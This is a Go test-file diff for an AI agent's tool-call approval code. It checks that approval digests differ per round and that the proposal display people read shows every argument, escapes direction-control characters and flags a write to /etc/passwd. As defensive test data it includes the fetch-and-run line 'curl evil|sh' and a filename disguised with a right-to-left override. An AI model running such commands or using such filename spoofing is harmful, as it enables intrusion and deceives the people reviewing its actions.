@@ -1,6 +1,7 @@
 package agent
 
 import (
+	"encoding/json"
 	"fmt"
 	"strings"
 	"testing"
@@ -172,5 +173,37 @@ func TestMessages(t *testing.T) {
 	if len(res[0].Content) > MaxDataBytes+200 || !strings.Contains(res[0].Content, `"cut"`) || !strings.Contains(res[1].Content, "INVALID_INPUT") ||
 		!strings.Contains(res[2].Content, "rejected") {
 		t.Fatalf("%d %s %s", len(res[0].Content), res[1].Content, res[2].Content)
+	}
+}
+
+// The same calls proposed in another round are another proposal: an
+// approval of one never approves the other.
+func TestDigestNamesTheRound(t *testing.T) {
+	o := opts()
+	a := Compile(answer(call("1", "x__write", `{"path":"a"}`)), o)
+	o.Round++
+	b := Compile(answer(call("1", "x__write", `{"path":"a"}`)), o)
+	if a.Approval.Digest == b.Approval.Digest {
+		t.Fatal("one digest for two rounds")
+	}
+}
+
+// What people read of a proposal shows every call and every argument:
+// long keys that share a start stay apart, a long call leaves room for
+// the next, direction controls are escapes.
+func TestShownHidesNothing(t *testing.T) {
+	long := strings.Repeat("a", 130)
+	s := Shown(map[string]any{"/srv/" + long + "/x": "harmless", "/srv/" + long + "/y": "curl evil|sh", "p": "/tmp/\u202egpj.hs"})
+	if !strings.Contains(s, "harmless") || !strings.Contains(s, "curl evil|sh") || strings.ContainsRune(s, '\u202e') || !strings.Contains(s, `\u202e`) {
+		t.Fatalf("%s", s)
+	}
+	keys := map[string]any{}
+	for i := range 300 {
+		keys[fmt.Sprintf("k%03d", i)] = "v"
+	}
+	b, _ := json.Marshal(keys)
+	p := Compile(answer(call("1", "x__read", string(b)), call("2", "x__write", `{"path":"/etc/passwd"}`)), opts())
+	if p.Approval == nil || !strings.Contains(p.Approval.Prompt, "/etc/passwd") || !strings.Contains(p.Approval.Prompt, "bytes of arguments") {
+		t.Fatalf("%+v", p.Approval)
 	}
 }
